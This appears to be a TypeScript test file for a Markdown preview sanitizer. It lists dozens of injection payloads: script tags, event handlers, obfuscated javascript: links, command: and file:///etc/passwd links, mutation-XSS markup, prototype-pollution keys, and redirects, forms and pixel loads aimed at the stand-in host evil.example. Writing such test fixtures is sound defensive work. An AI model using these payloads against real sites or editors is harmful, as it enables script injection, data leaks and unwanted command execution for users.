/** An attempt to get more than text onto the page, as Markdown; `{front matter}` ones are whole articles. */
export interface Attack {
  readonly name: string;
  readonly text: string;
}

/** What attackers of Markdown previews have tried, and some of our own. Each would set `window.taken` or leave the page. */
export const attacks: readonly Attack[] = [
  { name: 'a script block', text: '<script>window.taken=1</script>' },
  { name: 'a script inside a paragraph', text: 'text <script>window.taken=1</script> text' },
  { name: 'an event handler', text: '<img src="x" onerror="window.taken=1">' },
  {
    name: 'an event handler in a paragraph',
    text: 'see <b onmouseover="window.taken=1" style="font-size:900px">this</b>',
  },
  { name: 'an SVG that loads', text: '<svg onload="window.taken=1"><script>window.taken=1</script></svg>' },
  { name: 'a frame with a document of its own', text: '<iframe srcdoc="<script>parent.taken=1</script>"></iframe>' },
  { name: 'a frame', text: '<iframe src="https://evil.example/" sandbox="allow-scripts allow-same-origin"></iframe>' },
  { name: 'an object', text: '<object data="data:text/html,<script>window.taken=1</script>"></object>' },
  { name: 'a base address', text: '<base href="https://evil.example/">' },
  { name: 'a refresh', text: '<meta http-equiv="refresh" content="0;url=https://evil.example/">' },
  { name: 'a stylesheet', text: '<link rel="stylesheet" href="https://evil.example/a.css">' },
  { name: 'a style block', text: '<style>body{display:none}@import url(https://evil.example/a.css)</style>' },
  { name: 'a form', text: '<form action="https://evil.example/"><input name="q"><button>Go</button></form>' },
  { name: 'a javascript: link', text: '[link](javascript:window.taken=1)' },
  { name: 'a javascript: link in entities', text: '[link](&#106;avascript&colon;window.taken=1)' },
  { name: 'a javascript: link in capitals with a tab', text: '[link](<JaVa\tScript:window.taken=1>)' },
  { name: 'a javascript: link after a control character', text: '[link](<\u0001javascript:window.taken=1>)' },
  { name: 'a javascript: autolink', text: '<javascript:window.taken=1>' },
  { name: 'a command: link', text: '[link](command:workbench.action.terminal.new)' },
  { name: 'a command: autolink', text: '<command:workbench.action.quit>' },
  { name: 'a vscode: link', text: '[link](vscode://publisher.extension/run)' },
  { name: 'a data: link', text: '[link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)' },
  { name: 'a file: link', text: '[link](<file:///etc/passwd>)' },
  { name: 'a link with no scheme to another host', text: '[link](//evil.example/) [link](<\\\\evil.example\\share>)' },
  { name: 'a link by reference', text: '[link][x]\n\n[x]: command:workbench.action.quit "t"' },
  { name: 'a title that breaks out of its quotes', text: '[link](https://a.example \'" onclick="window.taken=1\')' },
  { name: 'a destination that breaks out', text: '[link](<https://a.example/" onclick="window.taken=1>)' },
  { name: 'an alt that breaks out', text: '![" onerror="window.taken=1](x.png)' },
  {
    name: 'an alt with markup',
    text: "![<img src=x onerror=window.taken=1>](x.png '\"><script>window.taken=1</script>')",
  },
  { name: 'a picture that is a script', text: '![p](javascript:window.taken=1)' },
  { name: 'a picture that is a page', text: '![p](data:text/html,<script>window.taken=1</script>)' },
  { name: 'a picture from elsewhere', text: '![p](https://evil.example/pixel.png)' },
  { name: 'a fence whose language breaks out', text: '```"><script>window.taken=1</script>\ncode\n```' },
  { name: 'code that closes its element', text: '`</code><script>window.taken=1</script>`' },
  { name: 'a table cell', text: '| a |\n|:--|\n| <img src=x onerror=window.taken=1> |' },
  { name: 'a heading', text: '# <script>window.taken=1</script>\n\n## <img src=x onerror=window.taken=1>' },
  {
    name: 'a comment that ends early',
    text: '<!--> <script>window.taken=1</script> -->\n\ntext <!--> <img src=x onerror=window.taken=1> -->',
  },
  {
    name: 'a declaration and a processing instruction',
    text: '<!DOCTYPE x [<!ENTITY a "b">]>\n\n<?php window.taken=1 ?>\n\n<![CDATA[<script>window.taken=1</script>]]>',
  },
  {
    name: 'a template',
    text: '<template><script>window.taken=1</script></template><noscript><p title="</noscript><img src=x onerror=window.taken=1>">',
  },
  { name: 'a byline with markup', text: '青禾新闻讯（<b onclick="window.taken=1">沈砚秋</b> 通讯员罗一帆）春分刚过。' },
  { name: 'a credit with markup', text: '![p](x.png)\n\n（<img src=x onerror=window.taken=1> 摄）' },
  { name: 'the place of the body', text: '\u0000 <!--blocks--> <div data-blocks></div>' },
  {
    name: 'front matter',
    text: "---\ntitle: '</title><script>window.taken=1</script>'\nseries: '\"><img src=x onerror=window.taken=1>'\npublished: '\"><script>window.taken=1</script>'\nsource: '</span><iframe src=https://evil.example/>'\ncolumn: '<base href=//evil.example>'\neditor: '<svg onload=window.taken=1>'\nrelated:\n  - title: '<a href=javascript:window.taken=1>x</a>'\n    url: javascript:window.taken=1\n---\n\ntext\n",
  },
  { name: 'a title with NUL', text: '---\ntitle: "a\\0b</h1><script>window.taken=1</script>"\n---\n\ntext\n' },
  {
    name: 'HTML that changes when it is read again',
    text: '<div><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.taken=1&gt;">',
  },
  {
    name: 'HTML that changes namespaces',
    text: '<p><svg><style><img src=x onerror=window.taken=1></style></svg><math><mi//xlink:href="javascript:window.taken=1">x</mi></math></p>',
  },
  {
    name: 'a form in a form',
    text: '<div><form><div></form><form><input name=nodes onfocus=window.taken=1 autofocus>',
  },
  {
    name: 'a javascript: link of HTML in entities and lines',
    text: '<p><a href="java&#10;script&colon;window.taken=1">x</a> <a href=&#106;avascript:window.taken=1>y</a>\n<a href="java\nscript:window.taken=1">z</a></p>',
  },
  {
    name: 'attributes of HTML that run, name or load',
    text: '<p id="copydesk-note-1" name=body class=no-picture style="background:url(https://evil.example/)" onclick=window.taken=1 background=//evil.example>x</p>',
  },
  {
    name: 'attributes without blanks between',
    text: '<p/onclick=window.taken=1/align="center"onload="window.taken=1">x',
  },
  { name: 'a tag in an attribute', text: '<p title="</p><script>window.taken=1</script>">x</p>' },
  { name: 'a quotation mark that is not closed', text: '<p align="center><img src=x onerror=window.taken=1>\n<p>">x' },
  {
    name: 'a cell that spans by script',
    text: '<table><tr><td colspan="2 onclick=window.taken=1" rowspan=\'"><script>\'>x',
  },
  {
    name: 'tags that do not nest',
    text: '<table><b><tr><td><p></b></table></p></td><li></ul><blockquote></td></details>x',
  },
  {
    name: 'a base and a refresh among text',
    text: '<div><base href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example">x</div>',
  },
  {
    name: 'a script that a comment hides',
    text: '<div><!-- --!><script>window.taken=1</script> --><!--><img src=x onerror=window.taken=1>--></div>',
  },
  { name: 'an element that never ends', text: '<div><textarea></p><xmp><noscript><img src=x onerror=window.taken=1>' },
  {
    name: 'a picture in HTML that is a script',
    text: '<p><img src="javascript:window.taken=1" srcset="x onerror=window.taken=1"></p>',
  },
  {
    name: 'an open part that is clicked',
    text: '<details open ontoggle=window.taken=1><summary onclick=window.taken=1>x</summary></details>',
  },
  {
    name: 'notes with hostile names',
    text: '[^"><script>window.taken=1</script>] [^__proto__] [^constructor]^[<img src=x onerror=window.taken=1>]\n\n[^"><script>window.taken=1</script>]: a\n[^__proto__]: b <script>window.taken=1</script>\n[^constructor]: [c](javascript:window.taken=1)',
  },
  {
    name: 'a note in a link',
    text: '[link [^1] ^[x [y](command:z)]](https://a.example)\n\n[^1]: <a href="javascript:x">z</a>',
  },
  { name: 'a code front matter', text: '---js\n{ title: (window.taken = 1) }\n---\n\ntext\n' },
  {
    name: 'attributes that our own scripts go by',
    text: '<b data-findings="0" data-line="1" data-copydesk-slot="body" id="stage">a</b> <a data-href="command:workbench.action.quit" href="#x">b</a>\n\n<div data-blocks data-labels="{}" id="note" class="fix">\n\nc\n\n</div>',
  },
  {
    name: 'names of the prototype',
    text: '---\n__proto__: {taken: 1}\nconstructor: {prototype: {taken: 1}}\ntitle: t\nrelated: [{__proto__: {url: "javascript:window.taken=1"}, title: r, url: __proto__}]\n---\n\n# __proto__\n\n[a][__proto__] [b][constructor] [^toString] ![][hasOwnProperty]\n\n[^toString]: note\n',
  },
  {
    name: 'paths of pictures that break out of their quotes',
    text: '---\ntitle: t\ncover: "x\\" onerror=\\"window.taken=1.png"\nphotos: ["\'><script>window.taken=1</script>.png"]\n---\n\n![p](<x" onerror="window.taken=1.png>)\n\n![p](<x\' onerror=\'window.taken=1.png>)\n\n![p](<`onerror=window.taken=1>)\n',
  },
  {
    name: 'markup that a second parser reads otherwise',
    text: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.taken=1&gt;">\n\n<svg></p><style><a id="</style><img src=1 onerror=window.taken=1>">\n\n<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.taken=1>',
  },
  {
    name: 'pictures and links that name more than one address',
    text: '<img srcset="https://evil.example/a.png 2x" src="x.png" lowsrc="https://evil.example/b.png"> <a ping="https://evil.example/" href="#a">x</a> <video poster="https://evil.example/c.png"></video> <table background="https://evil.example/d.png"><tr><td>t</td></tr></table>',
  },
  {
    name: 'hidden direction and blank marks in a link',
    text: '[\u202etxt.exe\u202c](java\u200bscript:window.taken=1) [a](java\nscript:window.taken=1) [b](&#x6A;&#x61;vascript&#58;window.taken=1) [c](<java&Tab;script:window.taken=1>)',
  },
];
